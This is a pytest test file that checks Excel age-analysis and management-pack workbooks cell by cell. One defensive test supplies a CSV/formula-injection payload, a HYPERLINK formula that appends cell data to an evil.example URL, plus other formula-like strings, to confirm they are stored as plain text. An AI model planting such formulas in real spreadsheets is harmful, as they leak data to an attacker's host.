"""The Excel workbooks opened again and read cell by cell: the age analysis (buckets, totals
per currency, commentary, credit balances) and the management pack (sheets, charts, frozen
headers, number formats)."""

from __future__ import annotations

from datetime import date
from decimal import Decimal

from openpyxl import load_workbook

from connectors.reports.ageing_xlsx import write_ageing
from connectors.reports.management_xlsx import write_pack
from sync.reports.ageing import Ageing, CreditBalance, Line
from sync.reports.buckets import bucket_names

BUCKETS = bucket_names()
D = Decimal


def _report() -> Ageing:
    def buckets(values: dict[str, str]) -> dict[str, Decimal]:
        return {b: D(values.get(b, "0")) for b in BUCKETS}

    lines = [Line("0000100001", "Karoo Mining Ltd", "1000", "ZAR",
                  buckets({"current": "1000.00", "31-60": "250.50"}), "promised on the 25th"),
             Line("0000100002", "Kuwait Trading Co", "1000", "KWD",
                  buckets({"current": "12.345"})),
             Line("0000100003", "Hoëveld Logistics", "1000", "ZAR",
                  buckets({"current": "-400.00"}))]
    credit = CreditBalance("0000100003", "Hoëveld Logistics", "1000", "ZAR", D("-400.00"),
                           ("unapplied credit memo",))
    return Ageing(as_of=date(2026, 12, 5), basis="due", buckets=BUCKETS, lines=lines,
                  credit_balances=[credit])


def test_the_ageing_workbook_reads_back_cell_by_cell(tmp_path):
    path = write_ageing(_report(), tmp_path / "ageing.xlsx")
    assert path.stat().st_mode & 0o077 == 0
    book = load_workbook(path)
    sheet = book["Age analysis"]
    assert sheet["A1"].value == "Age analysis as at 2026-12-05 (by due date)"
    assert [c.value for c in sheet[2]] == ["Customer", "Name", "Company code", "Currency",
                                            *BUCKETS, "Total", "Commentary"]
    assert sheet.freeze_panes == "C3"
    assert [c.value for c in sheet[3]][:5] == ["0000100001", "Karoo Mining Ltd", "1000", "ZAR",
                                               1000]
    assert sheet["G3"].value == 250.5 and sheet["K3"].value == 1250.5
    assert sheet["L3"].value == "promised on the 25th"
    assert sheet["E4"].number_format.endswith(".000")  # KWD has three decimals
    totals = {row[3].value: row[10].value for row in sheet.iter_rows(min_row=7)
              if row[0].value == "Total"}
    assert totals == {"KWD": 12.345, "ZAR": 850.5}  # never across currencies
    credit = book["Credit balances"]
    assert [c.value for c in credit[2]] == ["0000100003", "Hoëveld Logistics", "1000", "ZAR",
                                            -400, "unapplied credit memo"]


def test_the_management_pack_has_its_sheets_charts_and_formats(tmp_path):
    report = _report()
    pack = {"month": "2026-11", "currency": "ZAR", "dso_countback": 59.2, "dso_standard": 57.5,
            "best_possible_dso": 35.0, "average_days_delinquent": 22.5, "cei": 49.3,
            "targets": {"dso_countback": 45.0}, "variance": {"dso_countback": 14.2},
            "collected": {"ZAR": "100.00"}, "due": {"ZAR": "150.00", "USD": "5.00"},
            "top": [], "top60": [], "unallocated_receipts": {"ZAR": {"0-7": "10.00"}},
            "uploads": {"submitted": 3}, "po_alerts": {"raised": 1, "resolved": 0},
            "dso_trend": [{"month": "2026-10", "dso_countback": 61.0, "receivables": "9.00"},
                          {"month": "2026-11", "dso_countback": 59.2, "receivables": "8.00"}]}
    book = load_workbook(write_pack(pack, report, tmp_path / "pack.xlsx"))
    assert book.sheetnames == ["KPIs", "Age analysis", "DSO trend", "Top 10", "Top 60",
                               "Unallocated receipts", "Credit balances", "Uploads and alerts"]
    kpis = book["KPIs"]
    assert [c.value for c in kpis[2]] == ["DSO (count-back), days", 59.2, 45, 14.2]
    assert kpis.freeze_panes == "A2"
    assert len(book["Age analysis"]._charts) == 1 and len(book["DSO trend"]._charts) == 1
    assert [c.value for c in book["DSO trend"][3]] == ["2026-11", 59.2, 8]


def test_text_that_looks_like_a_formula_stays_text_in_both_workbooks(tmp_path):
    import zipfile

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    report = _report()
    report.lines[0] = Line("0000100001", "+27 Karoo Mining", "1000", "ZAR",
                           report.lines[0].buckets, hostile)
    report.credit_balances[0] = CreditBalance("0000100003", "@SUM(1+1)", "1000", "ZAR",
                                              D("-400.00"), ("-2+3",))
    pack = {"month": "2026-11", "currency": "ZAR", "dso_countback": 1.0, "dso_standard": 1.0,
            "best_possible_dso": 1.0, "average_days_delinquent": 1.0, "cei": 1.0,
            "targets": {}, "variance": {}, "collected": {}, "due": {}, "top": [],
            "top60": [], "unallocated_receipts": {}, "uploads": {}, "po_alerts": {},
            "dso_trend": []}
    for path in (write_ageing(report, tmp_path / "ageing.xlsx"),
                 write_pack(pack, report, tmp_path / "pack.xlsx")):
        with zipfile.ZipFile(path) as archive:
            sheets = [archive.read(n).decode() for n in archive.namelist()
                      if n.startswith("xl/worksheets/sheet")]
        assert not any("<f>" in xml for xml in sheets), path.name  # no formula at all
        sheet = load_workbook(path)["Age analysis"]
        row = next(r for r in sheet.iter_rows() if r[0].value == "0000100001")
        assert (row[1].value, row[-1].value) == ("+27 Karoo Mining", hostile)
        assert row[-1].data_type == "s"


def test_a_control_character_in_a_name_or_comment_does_not_stop_the_workbooks(tmp_path):
    report = _report()
    report.lines[0] = Line("0000100001", "Karoo\x01 Mining\x1b[31m", "1000", "ZAR",
                           report.lines[0].buckets, "called\x0b twice")
    report.credit_balances[0] = CreditBalance("0000100003", "Hoëveld\x07", "1000", "ZAR",
                                              D("-400.00"), ("unapplied\x00",))
    top = [{"rank": 1, "customer": "0000100001", "name": "Karoo\x01", "currency": "ZAR",
            "buckets": {b: "0" for b in BUCKETS}, "total": "0", "overdue": "0",
            "commentary": "x\x02"}]
    pack = {"month": "2026-11", "currency": "ZAR", "dso_countback": 1.0, "dso_standard": 1.0,
            "best_possible_dso": 1.0, "average_days_delinquent": 1.0, "cei": 1.0,
            "targets": {}, "variance": {}, "collected": {}, "due": {}, "top": top,
            "top60": top, "unallocated_receipts": {}, "uploads": {}, "po_alerts": {},
            "dso_trend": []}
    sheet = load_workbook(write_ageing(report, tmp_path / "ageing.xlsx"))["Age analysis"]
    assert sheet["B3"].value == "Karoo  Mining [31m" and sheet["L3"].value == "called  twice"
    book = load_workbook(write_pack(pack, report, tmp_path / "pack.xlsx"))
    assert book["Top 10"]["C2"].value == "Karoo "
    assert book["Credit balances"]["B2"].value == "Hoëveld "
